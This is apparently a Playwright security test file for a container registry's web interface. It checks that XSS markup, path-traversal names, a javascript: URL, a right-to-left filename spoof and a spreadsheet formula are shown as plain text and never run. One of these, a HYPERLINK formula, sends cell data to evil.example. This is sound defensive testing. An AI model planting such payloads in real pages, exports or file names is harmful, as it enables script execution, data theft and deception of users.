// Text of a registry is shown, word for word, and does nothing.

import { expect, test } from "../../fixtures/berth.mjs";
import { exported } from "../../fixtures/long-list.mjs";
import { open, rows, table } from "../../fixtures/screens.mjs";

const MARKUP = "<img src=x onerror=\"document.title='owned'\"><script>document.title='owned'</script>";
const FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"click")';
const LONG = "W".repeat(10_240);

test.afterEach(async ({ page }) => {
  await expect(page, "nothing of a registry ran").not.toHaveTitle(/owned/);
  expect(await page.locator("main :is(img[src=x], script, iframe, object, embed, b)").count()).toBe(0);
});

test("markup in a description is read, not obeyed", { tag: "@dialect" }, async ({ page }) => {
  await open(page, "/demo/images?q=xss");
  const row = rows(page, "Images").filter({ has: page.getByRole("link", { name: "xss", exact: true }) });
  await expect(row).toContainText(MARKUP);
  await expect(row).toContainText(FORMULA);
});

test("markup in people's names, stages and metadata is read, not obeyed", { tag: ["@dialect", "@proxy"] }, async ({ page }) => {
  await open(page, "/demo/images/xss");
  await expect(table(page, "Tags")).toContainText(MARKUP);
  await expect(table(page, "Tags")).toContainText("<b>release</b>");
  await open(page, "/demo/images/xss:v1?tab=metadata");
  await expect(table(page, "Metadata")).toContainText(MARKUP);
  await expect(table(page, "Metadata")).toContainText(FORMULA);
});

test("markup in a configuration and a history is read, not obeyed", async ({ page }) => {
  await open(page, "/demo/images/xss:v1");
  const panel = page.getByRole("tabpanel");
  await expect(panel).toContainText(`MARKUP=${MARKUP}`);
  await expect(panel).toContainText(LONG.slice(0, 1_000));
  await open(page, "/demo/images/xss:v1?tab=history");
  await expect(page.getByRole("list", { name: "History" })).toContainText(MARKUP);
});

test("a link or logo of another scheme or host is never made", async ({ page }) => {
  for (const path of ["/demo/images?q=xss", "/demo/images/xss:v1", "/demo/images/xss:v1?tab=metadata", "/demo/images/xss:v1?tab=manifest"]) {
    await open(page, path);
    await expect(page.getByRole("table").or(page.getByRole("tabpanel")).first()).not.toBeEmpty();
    const links = await page.getByRole("link").evaluateAll((all) => all.map((link) => link.href));
    expect(links.filter((href) => !/^https?:/.test(href)), path).toEqual([]);
    const pictures = await page.locator("img").evaluateAll((all) => all.map((picture) => picture.src));
    expect(pictures.filter((source) => /evil|javascript|text\/html/.test(source)), path).toEqual([]);
  }
});

test("tags whose names no registry allows are shown without links", { tag: ["@dialect", "@proxy"] }, async ({ page }) => {
  await open(page, "/demo/images/xss/tags");
  await expect(rows(page, "Tags")).toHaveCount(10);
  await expect(rows(page, "Tags").getByRole("link")).toHaveText(["good"]);
  await expect(page.getByRole("button", { name: /^Delete (?!image)/ })).toHaveCount(1);
  for (const text of [MARKUP, FORMULA, "../../../etc/passwd", "v1?version=v2#top", "with space"]) await expect(table(page, "Tags")).toContainText(text);
  await expect(table(page, "Tags")).toContainText("This name is not valid");
});

test("tags whose names no registry allows are saved as they came, and without a reference", async ({ page }) => {
  await open(page, "/demo/images/xss/tags");
  await expect(rows(page, "Tags")).toHaveCount(10);
  const json = JSON.parse((await exported(page, "JSON")).text);
  expect(json).toHaveLength(10);
  const valid = json.filter(({ reference }) => reference);
  expect(valid.map(({ tag, reference }) => [tag, reference])).toEqual([["good", "docker.bkrepo.example.com/demo/images/xss/tags:good"]]);
  for (const text of [MARKUP, FORMULA, "../../../etc/passwd", "v1?version=v2#top", "with space"]) expect(json.map(({ tag }) => tag)).toContain(text);
  const csv = (await exported(page, "CSV")).text;
  expect(csv).not.toMatch(/(^|,)"?=/m);
});

test("an image whose name no registry allows is shown without a link or a button", { tag: "@dialect" }, async ({ page }) => {
  await open(page, "/demo/images?q=xss");
  const row = rows(page, "Images").filter({ hasText: "This name is not valid" });
  await expect(row).toHaveCount(1);
  await expect(row).toContainText(`xss/${MARKUP}`);
  await expect(row.getByRole("link")).toHaveCount(0);
  await expect(row.getByRole("button")).toHaveCount(0);
});

test("a direction override is made visible and turns nothing around", async ({ page }) => {
  await open(page, "/demo/images/xss");
  const shown = await table(page, "Tags").textContent();
  expect(shown).toMatch(/invoice-.*U\+202E.*gpj\.exe/);
  // Joiners stay: they hide nothing, and whole scripts are written with them.
  expect(await page.getByRole("main").evaluate((main) => /[\u0000-\u0008\u007f\u200b\u200e\u200f\u202a-\u202e\u2060-\u2069]/.test(main.innerText))).toBe(false);
});

test("a message of the server is text as well", async ({ page }) => {
  await page.route("**/docker/ext/tag/**", (route) =>
    route.fulfill({ status: 500, contentType: "application/json", body: JSON.stringify({ code: 1, message: `${MARKUP} \u202eturned`, data: null, traceId: MARKUP }) }),
  );
  await open(page, "/demo/images/hello-world");
  const alert = page.getByRole("main").getByRole("alert");
  await expect(alert).toContainText(MARKUP);
  await expect(alert).toContainText("U+202E");
});

for (const typed of ["demo/images/<script>", "demo/images/../../etc", "javascript:alert(1)", `demo/images/${"a".repeat(300)}`, "demo/images/hello-world:v1\u202e"]) {
  test(`${JSON.stringify(typed.slice(0, 40))} in the box on top is refused before any request`, async ({ page, mock }) => {
    await open(page, "/demo/images/hello-world");
    await expect(rows(page, "Tags")).toHaveCount(2);
    // What is asked beside the list comes after it.
    const beside = async () => (await mock.log()).filter(({ path }) => /permission\/check$|\/repo\/list\/|\/version\/page\/|\/ext\/manifest\//.test(path)).length;
    await expect.poll(beside).toBe(3);
    const before = (await mock.log()).length;
    const box = page.getByLabel("Go to image");
    await box.fill(typed);
    await box.press("Enter");
    await expect(box).toHaveAttribute("aria-invalid", "true");
    await expect(page.getByRole("banner").getByRole("status")).not.toBeEmpty();
    await expect(page).toHaveURL(/\/demo\/images\/hello-world$/);
    expect((await mock.log()).length).toBe(before);
  });
}

/** The text that `Copy references` leaves in the clipboard after all rows were selected. Empty if it copies nothing. */
async function referencesOfAll(page) {
  await page.evaluate(() => navigator.clipboard.writeText(""));
  await page.getByRole("checkbox", { name: /^Select all/ }).check();
  await page.getByRole("region", { name: "Selection" }).getByRole("button", { name: "Copy references" }).click();
  await expect(page.getByRole("status").filter({ hasText: "skipped" })).toBeVisible();
  return page.evaluate(() => navigator.clipboard.readText());
}

test("names that no registry allows are never part of a reference", async ({ page }) => {
  await open(page, "/demo/images/xss/tags");
  await expect(rows(page, "Tags")).toHaveCount(10);
  expect(await referencesOfAll(page)).toMatch(/^\S+\/demo\/images\/xss\/tags:good$/);
  await open(page, "/demo/images?q=xss");
  await expect(rows(page, "Images").filter({ hasText: "This name is not valid" })).toHaveCount(1);
  expect(await referencesOfAll(page)).not.toContain("<");
});

for (const [what, path, address, record] of [
  ["projects", "./", /\/project\/list/, (record) => ({ ...record, name: MARKUP })],
  ["repositories", "/demo", /\/repo\/list\/demo/, (record) => ({ ...record, name: MARKUP })],
]) {
  test(`${what} whose names no registry allows are shown without links`, async ({ page }) => {
    await page.route(address, async (route) => {
      const response = await route.fetch();
      const { data, ...rest } = await response.json();
      await route.fulfill({ response, json: { ...rest, data: [record(data[0]), ...data.slice(1)] } });
    });
    await open(page, path);
    const row = page.getByRole("row").filter({ hasText: "This name is not valid" });
    await expect(row).toHaveCount(1);
    await expect(row).toContainText(MARKUP);
    await expect(row.getByRole("link")).toHaveCount(0);
    await expect(row.getByRole("button")).toHaveCount(0);
  });
}
